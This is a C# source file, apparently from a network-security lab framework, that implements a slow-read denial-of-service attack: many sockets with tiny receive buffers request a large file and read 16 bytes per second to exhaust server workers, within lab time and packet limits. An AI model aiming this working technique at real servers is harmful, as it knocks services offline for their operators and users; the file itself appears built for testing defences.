using System.Diagnostics;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Uncloak.Lab.Topology;
using Uncloak.Linux.Namespaces;

namespace Uncloak.Lab.Attacks;

/// <summary>
/// Ordinary kernel connections from the attacker namespace with a tiny receive buffer: each requests <c>/big</c> and then
/// reads 16 bytes per second, so the server's worker stays busy for as long as the attack lasts. Once per second, closed
/// connections are replaced (connects bounded by a 1 s timeout, all at once). On stop every socket is closed.
/// </summary>
public sealed class SlowReader : IAttack
{
    private const int ReadBytes = 16;
    private static readonly TimeSpan ReadInterval = TimeSpan.FromSeconds(1);
    private static readonly TimeSpan ConnectTimeout = TimeSpan.FromSeconds(1);

    public AttackKind Kind => AttackKind.SlowRead;

    public AttackStats Run(LabNames names, AttackLimits limits, CancellationToken cancel)
    {
        byte[] request = Encoding.ASCII.GetBytes($"GET /big HTTP/1.1\r\nHost: {LabNames.ServerAddress}\r\n\r\n");
        var server = new IPEndPoint(LabNames.ServerAddress, LabNames.HttpPort);
        var open = new List<Socket>();
        var buffer = new byte[ReadBytes];
        var clock = Stopwatch.StartNew();
        long sent = 0, reads = 0;
        int established = 0, closed = 0;
        string stopped = "time limit";
        try
        {
            while (true)
            {
                if (cancel.IsCancellationRequested)
                {
                    stopped = "cancelled";
                    break;
                }
                if (clock.Elapsed >= limits.Duration)
                {
                    break;
                }
                if (sent + reads >= limits.MaxPackets)
                {
                    stopped = "packet limit";
                    break;
                }
                var next = clock.Elapsed + ReadInterval;
                int missing = limits.Connections - open.Count;
                if (missing > 0)
                {
                    var fresh = NetNamespace.Run(names.Attacker, () => Enumerable.Range(0, missing)
                        .Select(_ => new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp)
                        {
                            ReceiveBufferSize = 1024, // the kernel doubles and floors it: about 2 KiB, a window that is mostly shut
                        }).ToList());
                    var connected = Task.WhenAll(fresh.Select(s => ConnectAsync(s, server, request))).GetAwaiter().GetResult();
                    for (int i = 0; i < fresh.Count; i++)
                    {
                        sent++;
                        if (connected[i])
                        {
                            fresh[i].Blocking = false;
                            open.Add(fresh[i]);
                            established++;
                        }
                        else
                        {
                            fresh[i].Dispose();
                        }
                    }
                }
                foreach (var s in open.ToList())
                {
                    // A reset is noticed at once (POLLERR), not after the bytes still buffered have been read.
                    if (s.Poll(0, SelectMode.SelectError))
                    {
                        closed++;
                        open.Remove(s);
                        s.Dispose();
                        continue;
                    }
                    int n = s.Receive(buffer, SocketFlags.None, out var error);
                    if (error == SocketError.WouldBlock)
                    {
                        continue; // nothing arrived yet: the window stays shut a little longer
                    }
                    if (error != SocketError.Success || n == 0)
                    {
                        closed++; // reset or closed by the server: replaced next round
                        open.Remove(s);
                        s.Dispose();
                        continue;
                    }
                    reads++;
                }
                var wait = next - clock.Elapsed;
                if (wait > TimeSpan.Zero)
                {
                    cancel.WaitHandle.WaitOne(wait);
                }
            }
        }
        finally
        {
            foreach (var s in open)
            {
                s.Dispose();
            }
        }
        return new AttackStats(sent + reads, reads, established, closed, open.Count, clock.Elapsed, stopped);
    }

    private static async Task<bool> ConnectAsync(Socket socket, IPEndPoint server, byte[] request)
    {
        using var timeout = new CancellationTokenSource(ConnectTimeout);
        try
        {
            await socket.ConnectAsync(server, timeout.Token);
            await socket.SendAsync(request, timeout.Token);
            return true;
        }
        catch (Exception e) when (e is SocketException or OperationCanceledException)
        {
            return false; // refused, dropped (a ban) or timed out: counted as an attempt, retried next round
        }
    }
}
